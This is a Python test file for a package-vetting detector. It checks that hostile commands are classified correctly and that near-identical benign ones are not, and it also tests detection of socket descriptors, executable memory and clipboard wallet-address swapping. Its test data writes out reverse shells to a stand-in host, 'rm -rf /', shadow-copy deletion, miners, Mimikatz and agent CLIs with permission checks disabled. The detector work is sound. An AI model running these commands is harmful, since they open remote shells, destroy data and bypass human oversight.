"""What only attacks do, and what almost the same code does not do."""

import ast
from collections.abc import Mapping

from wheelhouse.vet.code.behaviour import IF_CALLED, Behaviour
from wheelhouse.vet.code.hostile import (
    exchanges_wallets,
    hostile_command,
    is_of_connection,
    is_whole_place,
    maps_code,
)
from wheelhouse.vet.code.values import Value

ATTACKS: Mapping[str, tuple[str, ...]] = {
    "an encoded command of PowerShell": (
        "powershell -e QQBBAEEA",
        "sh -c 'PWSH.exe -w hidden -EncodedCommand QQBBAEEA'",
    ),
    "mines coins": ("xmrig", "/opt/a/T-Rex -a", "oddtool -o stratum+tcp://a.example", "oddtool a.c3pool.com"),
    "a shell over a connection": (
        *("bash > /dev/tcp/a.example/1", "nc -e /bin/sh a.example 1", "ncat a -c cmd", "bash -i >& a"),
        "socat tcp:a.example:1 exec:sh",
    ),
    "removes everything": (
        *("rm -rf /", "rm -v -R -f ~", "rm -r $HOME; ls", "rm -rf ~/*", "rm -r --no-preserve-root a", "format c:"),
        "vssadmin delete shadows",
    ),
    "starts an agent that asks nobody": (
        *("claude --dangerously-skip-permissions", "q --trust-all-tools", "sh -c 'gemini -p a --yolo'"),
    ),
    "searches for secrets": ("trufflehog a", "./Mimikatz"),
    "": (
        *("", "git log", "powershell -e a", "powershell -c QQBBAEEA", "xmrigger", "a.c3pool", "bash -i", "nc a 1"),
        *("nc -e a", "socat tcp:a.example:1 -", "rm -rf /tmp", "rm a /", "format d:", "vssadmin list", "claude -p a"),
        *("gemini -p a", "oddtool --yolo", "gitleaksx", "oddtool /dev/tcpx"),
    ),
}


def test_a_command_is_one_attack() -> None:
    wrong = {
        command: (hostile_command(command), attack)
        for attack, commands in ATTACKS.items()
        for command in commands
        if hostile_command(command) != attack
    }
    assert not wrong


CONNECTIONS = {
    "socket.socket().fileno()": True,
    "socket.create_connection().fileno()": True,
    "ssl.wrap_socket().fileno()": True,
    "socket.socket().makefile().fileno()": True,
    "socket.socket().fileno().odd": False,
    "socket.socket()": False,
    "builtins.open().fileno()": False,
    "": False,
}


def test_a_descriptor_is_of_a_connection() -> None:
    assert {name: is_of_connection(Value(name=name)) for name in CONNECTIONS} == CONNECTIONS


WHOLE_PLACES = ("~", "~/", "/", "C:", "C:\\", "/*", "…/*", "*", "…*", "/home", "/root/", "/etc", "/usr")
PARTS = ("", "~/a", "/tmp", "/home/a", "/etc/a", "a", "./*", "a/*", "…", "C:\\a")


def test_a_path_is_a_whole_place() -> None:
    assert [path for path in (*WHOLE_PLACES, *PARTS) if is_whole_place(path)] == list(WHOLE_PLACES)


MEMORY = {
    "mmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_EXEC)": True,
    "libc.mmap(0, 9, PROT_EXEC)": True,
    f"libc.mmap(0, 0x{'f' * 5000}, PROT_EXEC)": True,
    "mmap.mmap(-1, 9, prot=mmap.PROT_READ)": False,
}


def test_memory_is_for_code_if_the_call_says_so() -> None:
    calls = {code: ast.parse(code, mode="eval").body for code in MEMORY}
    assert {code: maps_code(call) for code, call in calls.items() if isinstance(call, ast.Call)} == MEMORY


WALLETS = {
    "import pyperclip\nx = 1\ny = r'^(bc1|[13])[a-z]'\n": 3,
    "x = '0x0123456789abcdef0123456789ABCDEF01234567'\nuse(Clipboard)\n": 1,
    "\nclipboard.paste()\n\nre.compile('0x[a-fA-F0-9]{40}')\n": 4,
    "x = 'bc1q0123456789abcdefghijklmnopqrstuvwxyz01'\nclipboard.paste()\n": 1,
    "import pyperclip\nx = 1\n": None,
    "x = r'^(bc1|[13])[a-z]'\n": None,
    "x = '0x0123456789abcdef0123456789ABCDEF012345678'\nclipboard.paste()\n": None,
}


def test_wallets_beside_the_clipboard_are_hostile_at_the_line_of_the_first() -> None:
    what = "looks for addresses of wallets in the clipboard"
    for text, line in WALLETS.items():
        expected = [Behaviour("hostile", "odd.py", line, what, IF_CALLED)] if line else []
        assert list(exchanges_wallets("odd.py", text)) == expected
